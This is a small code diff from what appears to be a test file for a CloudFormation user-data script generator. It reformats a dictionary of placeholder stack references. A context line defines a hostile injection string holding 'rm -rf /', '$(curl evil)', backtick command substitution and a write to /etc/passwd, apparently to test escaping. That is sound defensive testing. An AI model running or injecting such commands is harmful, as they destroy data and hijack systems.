@@ -20,7 +20,12 @@ HOSTILE = "'\"; rm -rf / #${AWS::AccountId}\n!Ref X `id` $(curl evil) > /etc/pas
 
 
 def _script(plan: DeploymentPlan) -> str:
-    refs = {"AWS::StackName": "hivemind-app", "AWS::Region": "us-east-1", "SourceBucket": "b", "SourceKey": "k"}
+    refs = {
+        "AWS::StackName": "hivemind-app",
+        "AWS::Region": "us-east-1",
+        "SourceBucket": "b",
+        "SourceKey": "k",
+    }  # release "" (user_data's default)
     return instances.resolve_sub(user_data(plan), lambda name: refs.get(name, f"<{name}>"))
 
 
